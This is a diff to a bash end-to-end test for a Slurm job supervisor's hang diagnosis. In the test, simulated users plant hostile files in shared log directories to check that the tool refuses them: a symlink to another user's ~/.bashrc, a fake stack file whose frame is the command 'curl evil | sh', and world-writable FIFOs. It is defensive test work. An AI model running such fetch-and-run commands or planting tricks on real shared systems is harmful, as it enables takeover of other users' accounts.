@@ -1,7 +1,6 @@
 #!/usr/bin/env bash
 # e2e-modes: run
 # e2e-locks: team-users
-# e2e-alone: it plants files for the next job id, which no other test may take
 # Hang diagnosis that other users cannot steer, as real users: alice runs the jobs with
 # her team's group-writable log directory (as the template tells teams to make it); bob
 # is in her group; mallory is not.
@@ -9,10 +8,10 @@
 #     others wait in its init. --hang-start-timeout catches it: stacks of the ranks,
 #     readable by the team (a group log directory), then end-step. No node is blamed
 #     for the deaths end-step caused.
-#  2. bob plants stacks-<alice's next job>/ in the team directory: summary.txt a link to
-#     alice's ~/.bashrc, rank9.txt naming the host "n[1-3]" with a shell command as its
-#     frame. At alice's hang nothing is written there, nothing read, and no node is
-#     remembered as bad; her .bashrc is untouched; one line says why.
+#  2. bob plants stacks-<alice's job>/ in the team directory while it is held:
+#     summary.txt a link to alice's ~/.bashrc, rank9.txt naming the host "n[1-3]" with
+#     a shell command as its frame. At alice's hang nothing is written there, nothing
+#     read, and no node is remembered as bad; her .bashrc is untouched; one line says why.
 #  3. mallory plants FIFOs (mode 666) as stacks-<job>/rank0.txt and summary.txt in a
 #     world-writable sticky log directory, as /tmp is. alice's stalled rank is dumped
 #     without blocking: the supervisor goes on, the stall ends, and alice's kill switch
@@ -45,12 +44,9 @@ bashrc=/home/alice/.bashrc
 touch "$bashrc"
 chown alice "$bashrc"
 before=$(sha256sum <"$bashrc")
-next_job() {
-  local probe
-  probe=$(as alice sbatch --parsable --hold --wrap true) || fail "cannot submit"
-  scancel "${probe%%;*}"
-  echo $((${probe%%;*} + 1))
-}
+# The attackers plant for a job of alice's that is submitted held and released once they
+# have: what they could do by guessing her next job id, without the test running alone.
+release() { as alice scontrol release "$1" || fail "cannot release job $1"; }
 
 log "0. trainctl stacks of an srun python job (no rank variable but SLURM_PROCID)"
 cat >"$TEST_DIR/job0.sh" <<JOB
@@ -112,17 +108,17 @@ grep -q "^[0-9]* n2 job=$job .*reason=hung" "$TRAINCTL_BAD_NODES" || fail "n2 (r
 [ "$(wc -l <"$TRAINCTL_BAD_NODES")" -eq 1 ] || fail "more than n2 remembered: $(cat "$TRAINCTL_BAD_NODES")"
 log "1: found before the first agreement, stacks readable by the team only, n2 (the odd rank's node) remembered as hung, no crash"
 
-log "2. bob plants stacks-<next job> in the team directory"
-next=$(next_job)
+log "2. bob plants stacks-<job> in the team directory before the job starts"
+supervised_job "$TEST_DIR/job2.sh" --hang-timeout=5s --hang-action=end-step
+sed -i "s|--step-time 0.05|--step-time 0.05 --hang-rank 3 --hang-at 60|" "$TEST_DIR/job2.sh"
+job=$(submit_as_user --hold -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job2.out" "$TEST_DIR/job2.sh")
+next=$job
 as bob bash -s "$team/stacks-$next" "$bashrc" <<'PLANT' || fail "bob's planting failed"
 mkdir -p "$1" && chmod 2775 "$1"
 ln -s "$2" "$1/summary.txt"
 printf '=== trainctl stacks: rank 9, pid 1, host n[1-3], x: hang\n=== dump: run=%s.0 kind=hang at_ms=9999999999999\n=== innermost: curl evil | sh\n' "$(basename "$1" | cut -d- -f2)" >"$1/rank9.txt"
 PLANT
-supervised_job "$TEST_DIR/job2.sh" --hang-timeout=5s --hang-action=end-step
-sed -i "s|--step-time 0.05|--step-time 0.05 --hang-rank 3 --hang-at 60|" "$TEST_DIR/job2.sh"
-job=$(submit_as_user -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job2.out" "$TEST_DIR/job2.sh")
-[ "$job" = "$next" ] || fail "job $job is not the id bob planted for ($next)"
+release "$job"
 wait_for 120 "job 2 to end (end-step)" job_ended "$job"
 grep -q "hang: stacks not saved: $team/stacks-$job belongs to uid $(id -u bob), not to this user" "$TEST_DIR/job2.out" ||
   fail "no line saying why: $(grep 'hang' "$TEST_DIR/job2.out" | head -5)"
@@ -135,15 +131,15 @@ public=$TEST_DIR/public
 mkdir -p "$public"
 chmod 1777 "$public"
 export TRAINCTL_LOG_DIR=$public
-next=$(next_job)
-as mallory bash -c "mkdir -m 777 '$public/stacks-$next' && mkfifo -m 666 '$public/stacks-$next/rank0.txt' '$public/stacks-$next/summary.txt'" ||
-  fail "mallory's FIFOs"
 rm -rf "$TEST_DIR/events"
 as alice mkdir -p "$TEST_DIR/events"
 supervised_job "$TEST_DIR/job3.sh" --hang-timeout=4s --kill-switch="$TEST_DIR/KILL"
 sed -i "s|--step-time 0.05|--step-time 0.05 --hang-rank 3 --hang-at 60 --hang-for 15|" "$TEST_DIR/job3.sh"
-job=$(submit_as_user -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job3.out" "$TEST_DIR/job3.sh")
-[ "$job" = "$next" ] || fail "job $job is not the id mallory planted for ($next)"
+job=$(submit_as_user --hold -N2 --ntasks-per-node=1 --time=5 -o "$TEST_DIR/job3.out" "$TEST_DIR/job3.sh")
+next=$job
+as mallory bash -c "mkdir -m 777 '$public/stacks-$next' && mkfifo -m 666 '$public/stacks-$next/rank0.txt' '$public/stacks-$next/summary.txt'" ||
+  fail "mallory's FIFOs"
+release "$job"
 wait_for 120 "the stall to be found" grep -q "hang: stacks not saved" "$TEST_DIR/job3.out"
 wait_for 60 "the stall to end" grep -q "hang: the ranks make progress again" "$TEST_DIR/job3.out"
 as alice touch "$TEST_DIR/KILL"
